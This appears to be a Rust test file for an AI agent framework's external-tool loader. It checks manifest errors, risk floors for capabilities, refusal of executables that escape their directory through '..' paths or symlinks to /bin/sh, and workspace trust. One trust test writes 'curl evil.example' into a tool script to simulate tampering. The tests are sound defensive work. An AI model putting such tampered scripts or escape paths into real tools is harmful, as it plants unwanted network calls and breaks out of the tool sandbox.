//! External tools: discovery, broken metadata, the tier floor, executables
//! kept inside their directory, workspace trust, the stdin/stdout protocol,
//! exit codes.

use cairn_core::tool::{Capability, ReplayPolicy, Risk, Tool};
use std::path::{Path, PathBuf};

use cairn_tools::{ToolDir, ToolDirScan, ToolsConfig, TrustState, TrustStore};
use serde_json::json;

use super::util::{install_tool, metadata, run};

#[test]
fn broken_metadata_is_reported_per_file_without_failing_the_others() {
    let root = tempfile::tempdir().unwrap();
    let user = root.path().join("user");
    let project = root.path().join("project/.cairn/tools");
    let echo = "#!/bin/bash\ncat\n";
    install_tool(&user, "good", echo, &metadata("readOnly", &["fileRead"], "timeout = 5"));
    install_tool(&user, "syntax", echo, "description = \"x\"\nrisk = \n");
    install_tool(&user, "badrisk", echo, &metadata("catastrophic", &[], ""));
    install_tool(&user, "typo", echo, &metadata("readOnly", &[], "timout = 5"));
    install_tool(&user, "guarded", echo, &metadata("write", &[], "").replace("\"never\"", "\"guarded\""));
    install_tool(&user, "shell", echo, &metadata("write", &[], ""));
    install_tool(
        &user,
        "noparams",
        echo,
        "description = \"x\"\nrisk = \"readOnly\"\nreplay = \"never\"\nparameters = { type = \"string\" }\n",
    );
    std::fs::write(user.join("missing.toml"), metadata("readOnly", &[], "")).unwrap();
    let noexec = install_tool(&user, "noexec", echo, &metadata("readOnly", &[], ""));
    std::fs::set_permissions(noexec.with_extension(""), std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    install_tool(&project, "good", echo, &metadata("write", &[], ""));
    install_tool(&project, "local", echo, &metadata("write", &["fileRead", "fileWrite"], ""));

    let dirs: Vec<ToolDir> =
        [root.path().join("nonexistent"), user.clone(), project.clone()].into_iter().map(ToolDir::user).collect();
    let scan = ToolDirScan::scan(&dirs, &ToolsConfig::default(), &TrustStore::empty());
    assert_eq!(scan.names().len(), 10, "{:?}", scan.names());
    let (tools, errors) = scan.load_all();
    let mut names: Vec<_> = tools.iter().map(|t| t.tool.spec().name.clone()).collect();
    names.sort();
    assert_eq!(names, ["good", "local"]);
    let good = tools.iter().find(|t| t.tool.spec().name == "good").unwrap();
    assert_eq!(good.tool.spec().risk, Risk::ReadOnly, "the first directory wins");
    assert!(good.origin.to_string().ends_with("user/good.toml"));
    assert_eq!(good.tool.spec().capabilities.iter().copied().collect::<Vec<_>>(), [Capability::FileRead]);
    assert_eq!(good.tool.spec().replay, ReplayPolicy::Never);

    let reason = |file: &str| {
        errors
            .iter()
            .find(|e| e.file.ends_with(file))
            .unwrap_or_else(|| panic!("no error for {file}: {errors:?}"))
            .to_string()
    };
    assert!(reason("user/syntax.toml").contains("invalid metadata"));
    assert!(reason("badrisk.toml").contains("catastrophic"));
    assert!(reason("typo.toml").contains("timout"));
    assert!(reason("guarded.toml").contains("guarded"));
    assert!(reason("user/shell.toml").contains("built-in"));
    assert!(reason("noparams.toml").contains("type = \"object\""));
    assert!(reason("missing.toml").contains("missing"));
    assert!(reason("noexec.toml").contains("chmod +x"));
    assert!(reason("project/.cairn/tools/good.toml").contains("already found"));
    assert_eq!(errors.len(), 9, "{errors:#?}");
}

#[test]
fn registry_loads_metadata_lazily() {
    let dir = tempfile::tempdir().unwrap();
    let meta = install_tool(dir.path(), "later", "#!/bin/bash\ncat\n", "broken = ");
    let scan = ToolDirScan::scan(&[ToolDir::user(dir.path())], &ToolsConfig::default(), &TrustStore::empty());
    assert_eq!(scan.names(), ["later"]);
    // Fixed before first use: the scan did not parse it.
    std::fs::write(&meta, metadata("readOnly", &[], "")).unwrap();
    assert!(scan.get("later").unwrap().is_ok());
    assert!(scan.get("nothing").is_none());
}

#[test]
fn arguments_arrive_on_stdin_and_json_stdout_becomes_structured_output() {
    let root = tempfile::tempdir().unwrap();
    let script = "#!/bin/bash\nIFS= read -r args\necho \"{\\\"got\\\": $args, \\\"tool\\\": \\\"$CAIRN_TOOL_NAME\\\"}\"\necho warning >&2\n";
    let t = cairn_tools::ExternalTool::load(
        &install_tool(root.path(), "echoer", script, &metadata("readOnly", &[], "")),
        &ToolsConfig::default(),
    )
    .unwrap();
    let r = run(&t, json!({"q": "hello"}), root.path()).unwrap();
    assert_eq!(r.exit_code, 0);
    assert_eq!(r.structured_output.unwrap(), json!({"got": {"q": "hello"}, "tool": "echoer"}));
    assert!(r.output_summary.contains("[stderr]\nwarning"), "{}", r.output_summary);

    let text = cairn_tools::ExternalTool::load(
        &install_tool(
            &root.path().join("t"),
            "fails",
            "#!/bin/bash\necho not json\nexit 3\n",
            &metadata("readOnly", &[], ""),
        ),
        &ToolsConfig::default(),
    )
    .unwrap();
    let r = run(&text, json!({}), root.path()).unwrap();
    assert_eq!(r.exit_code, 3);
    assert!(r.output_summary.starts_with("not json\n"));
    assert!(r.output_summary.contains("[exit code 3]"));
    assert!(text.validate(&super::util::request("fails", json!([1]))) != cairn_core::tool::Validation::Valid);
}

#[test]
fn load_tools_gives_builtins_then_external_tools_from_the_standard_dirs() {
    let root = tempfile::tempdir().unwrap();
    let (data, config, cwd) = (root.path().join("data"), root.path().join("config"), root.path().join("work"));
    let dirs = cairn_tools::tool_dirs(&data, &config, &cwd);
    install_tool(&cwd.join(".cairn/tools"), "projtool", "#!/bin/bash\ncat\n", &metadata("readOnly", &[], ""));
    install_tool(&config.join("tools"), "projtool", "#!/bin/bash\ncat\n", &metadata("write", &[], ""));
    let mut trust = TrustStore::empty();
    trust.trust(&cwd).unwrap();
    let loaded = cairn_tools::load_tools(&ToolsConfig::default(), &dirs, &trust).unwrap();
    // Every built-in first, in order, then the one external tool.
    let names: Vec<&str> = loaded.tools.iter().map(|t| t.tool.spec().name.as_str()).collect();
    assert_eq!(names, ["read_file", "list_dir", "search", "write_file", "edit_file", "shell", "plan", "projtool"]);
    let last = loaded.tools.last().unwrap();
    assert_eq!(last.tool.spec().name, "projtool");
    assert_eq!(last.tool.spec().risk, Risk::Write, "the user's tool wins over the project's");
    assert!(
        matches!(&last.origin, cairn_tools::ToolOrigin::External { executable, .. } if executable.starts_with(&config))
    );
    assert_eq!(loaded.errors.len(), 1);
    assert!(loaded.untrusted.is_empty());
}

#[test]
fn one_home_for_data_and_config_is_scanned_once() {
    let home = tempfile::tempdir().unwrap();
    let cwd = home.path().join("work");
    let dirs = cairn_tools::tool_dirs(home.path(), home.path(), &cwd);
    assert_eq!(dirs, [ToolDir::user(home.path().join("tools")), ToolDir::workspace(&cwd)]);
    install_tool(&home.path().join("tools"), "mine", "#!/bin/bash\ncat\n", &metadata("readOnly", &[], ""));
    let loaded = cairn_tools::load_tools(&ToolsConfig::default(), &dirs, &TrustStore::empty()).unwrap();
    assert!(loaded.errors.is_empty(), "not shadowed by itself: {:?}", loaded.errors);
    assert!(loaded.tools.iter().any(|t| t.tool.spec().name == "mine"));
}

/// Load `name.toml` from `dir`, expecting a refusal; returns its message.
fn refusal(meta: &Path) -> String {
    match cairn_tools::ExternalTool::load(meta, &ToolsConfig::default()) {
        Ok(tool) => panic!("{} loaded: {:?}", meta.display(), tool.origin()),
        Err(e) => {
            assert_eq!(e.file, meta, "the error names the manifest");
            e.to_string()
        }
    }
}

#[test]
fn a_manifest_declaring_less_risk_than_its_capabilities_is_refused() {
    let root = tempfile::tempdir().unwrap();
    let echo = "#!/bin/bash\ncat\n";
    let cases: [(&str, &[&str]); 6] = [
        ("fileWrite", &["fileRead", "fileWrite"]),
        ("shellExec", &["shellExec"]),
        ("processSpawn", &["processSpawn"]),
        ("network", &["network"]),
        ("fileWrite, network, shellExec", &["fileRead", "fileWrite", "network", "shellExec"]),
        ("fileWrite", &["fileWrite"]),
    ];
    for (i, (named, caps)) in cases.iter().enumerate() {
        let dir = root.path().join(format!("case{i}"));
        let meta = install_tool(&dir, "sneaky", echo, &metadata("readOnly", caps, ""));
        let msg = refusal(&meta);
        assert!(msg.contains("risk = \"readOnly\""), "{msg}");
        assert!(msg.contains(&format!("capabilities {named} require at least risk = \"write\"")), "{caps:?}: {msg}");
        // Declared honestly, the same tool loads, and keeps its declaration.
        std::fs::write(&meta, metadata("write", caps, "")).unwrap();
        let tool = cairn_tools::ExternalTool::load(&meta, &ToolsConfig::default()).unwrap();
        assert_eq!(cairn_core::tool::Tool::spec(&tool).risk, Risk::Write);
        std::fs::write(&meta, metadata("destructive", caps, "")).unwrap();
        assert!(cairn_tools::ExternalTool::load(&meta, &ToolsConfig::default()).is_ok());
    }
    // Reading alone is read-only.
    let meta = install_tool(&root.path().join("reader"), "reader", echo, &metadata("readOnly", &["fileRead"], ""));
    assert!(cairn_tools::ExternalTool::load(&meta, &ToolsConfig::default()).is_ok());
}

#[test]
fn an_executable_outside_the_tool_directory_is_refused() {
    let root = tempfile::tempdir().unwrap();
    let tools = root.path().join("work/.cairn/tools");
    let echo = "#!/bin/bash\ncat\n";
    let with_exe = |exe: &str| metadata("readOnly", &["fileRead"], &format!("executable = {exe:?}"));

    let meta = install_tool(&tools, "abs", echo, &with_exe("/bin/sh"));
    let msg = refusal(&meta);
    assert!(msg.contains("absolute path") && msg.contains("inside its tool directory"), "{msg}");

    let meta = install_tool(&tools, "up", echo, &with_exe("../../../bin/sh"));
    let msg = refusal(&meta);
    assert!(msg.contains("'..'"), "{msg}");
    // Even a '..' that comes back inside is refused: no path games.
    let meta = install_tool(&tools, "back", echo, &with_exe("../tools/back"));
    assert!(refusal(&meta).contains("'..'"));

    // A symlink inside the directory that leads outside it.
    std::fs::write(root.path().join("outside.sh"), echo).unwrap();
    std::fs::set_permissions(root.path().join("outside.sh"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .unwrap();
    std::os::unix::fs::symlink(root.path().join("outside.sh"), tools.join("link-out")).unwrap();
    let meta = install_tool(&tools, "linked", echo, &with_exe("link-out"));
    let msg = refusal(&meta);
    assert!(msg.contains("outside its tool directory") && msg.contains("outside.sh"), "{msg}");
    // The default executable (the tool's name) as a link to a system shell.
    let meta = tools.join("shelly.toml");
    std::fs::write(&meta, metadata("readOnly", &[], "")).unwrap();
    std::os::unix::fs::symlink("/bin/sh", tools.join("shelly")).unwrap();
    assert!(refusal(&meta).contains("outside its tool directory"));
    // A relative link climbing out, in a subdirectory.
    std::fs::create_dir_all(tools.join("bin")).unwrap();
    std::os::unix::fs::symlink("../../../../outside.sh", tools.join("bin/climb")).unwrap();
    let meta = install_tool(&tools, "climber", echo, &with_exe("bin/climb"));
    assert!(refusal(&meta).contains("outside its tool directory"));
    // A manifest that is itself a link to a file elsewhere.
    std::fs::write(root.path().join("elsewhere.toml"), metadata("readOnly", &[], "")).unwrap();
    install_tool(&tools, "host", echo, &metadata("readOnly", &[], ""));
    std::fs::remove_file(tools.join("host.toml")).unwrap();
    std::os::unix::fs::symlink(root.path().join("elsewhere.toml"), tools.join("host.toml")).unwrap();
    assert!(refusal(&tools.join("host.toml")).contains("outside its tool directory"));

    // Controls: a file in a subdirectory, and a link that stays inside.
    std::fs::write(tools.join("bin/real"), echo).unwrap();
    std::fs::set_permissions(tools.join("bin/real"), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let meta = install_tool(&tools, "nested", echo, &with_exe("bin/real"));
    let tool = cairn_tools::ExternalTool::load(&meta, &ToolsConfig::default()).unwrap();
    let canonical_tools = tools.canonicalize().unwrap();
    assert!(matches!(tool.origin(), cairn_tools::ToolOrigin::External { executable, .. }
        if executable == canonical_tools.join("bin/real")));
    std::os::unix::fs::symlink("bin/real", tools.join("alias")).unwrap();
    let meta = install_tool(&tools, "aliased", echo, &with_exe("alias"));
    assert!(cairn_tools::ExternalTool::load(&meta, &ToolsConfig::default()).is_ok());
}

/// A workspace with one readOnly tool `probe` in its `.cairn/tools/`.
fn workspace_with_probe(root: &Path) -> PathBuf {
    let cwd = root.join("repo");
    install_tool(&cwd.join(".cairn/tools"), "probe", "#!/bin/bash\necho probed\n", &metadata("readOnly", &[], ""));
    cwd
}

#[test]
fn workspace_tools_load_only_while_their_directory_is_trusted_as_is() {
    let root = tempfile::tempdir().unwrap();
    let cwd = workspace_with_probe(root.path());
    let user = root.path().join("user");
    install_tool(&user, "mine", "#!/bin/bash\ncat\n", &metadata("readOnly", &[], ""));
    let dirs = [ToolDir::user(&user), ToolDir::workspace(&cwd)];
    let names = |trust: &TrustStore| {
        let scan = ToolDirScan::scan(&dirs, &ToolsConfig::default(), trust);
        (scan.names().into_iter().map(str::to_owned).collect::<Vec<_>>(), scan.untrusted().to_vec())
    };

    // Never trusted: the user's tool loads, the workspace's does not.
    let (loaded, untrusted) = names(&TrustStore::empty());
    assert_eq!(loaded, ["mine"]);
    assert_eq!(untrusted.len(), 1);
    assert_eq!(untrusted[0].names, ["probe"]);
    assert_eq!(untrusted[0].state, TrustState::Untrusted);
    assert!(untrusted[0].to_string().contains("not trusted"), "{}", untrusted[0]);
    // Trusting another directory does not help.
    let mut trust = TrustStore::empty();
    trust.trust(&workspace_with_probe(&root.path().join("other"))).unwrap();
    assert_eq!(names(&trust).0, ["mine"]);

    trust.trust(&cwd).unwrap();
    let (loaded, untrusted) = names(&trust);
    assert_eq!(loaded, ["mine", "probe"]);
    assert!(untrusted.is_empty());

    // A tool added afterwards makes the whole directory untrusted again.
    install_tool(&cwd.join(".cairn/tools"), "added", "#!/bin/bash\ncat\n", &metadata("readOnly", &[], ""));
    let (loaded, untrusted) = names(&trust);
    assert_eq!(loaded, ["mine"]);
    assert_eq!(untrusted[0].state, TrustState::Changed);
    assert_eq!(untrusted[0].names, ["added", "probe"]);
    assert!(untrusted[0].to_string().contains("changed"), "{}", untrusted[0]);

    trust.trust(&cwd).unwrap();
    assert_eq!(names(&trust).0, ["mine", "added", "probe"]);
    // An executable edited in place.
    std::fs::write(cwd.join(".cairn/tools/probe"), "#!/bin/bash\ncurl evil.example\n").unwrap();
    assert_eq!(names(&trust).0, ["mine"]);
    trust.trust(&cwd).unwrap();
    assert!(trust.revoke(&cwd).is_some());
    assert_eq!(names(&trust).0, ["mine"]);
}

#[test]
fn a_user_tools_directory_is_trusted_but_a_workspace_directory_never_is_by_default() {
    let root = tempfile::tempdir().unwrap();
    let cwd = workspace_with_probe(root.path());
    let tools = cwd.join(".cairn/tools");
    // Listed as the user's own directory it loads; as the workspace's it does not.
    let scan = ToolDirScan::scan(&[ToolDir::user(&tools)], &ToolsConfig::default(), &TrustStore::empty());
    assert_eq!(scan.names(), ["probe"]);
    let loaded =
        cairn_tools::load_tools(&ToolsConfig::default(), &[ToolDir::workspace(&cwd)], &TrustStore::empty()).unwrap();
    assert!(loaded.tools.iter().all(|t| t.tool.spec().name != "probe"));
    assert_eq!(loaded.untrusted.len(), 1);
    assert!(loaded.errors.is_empty());
}
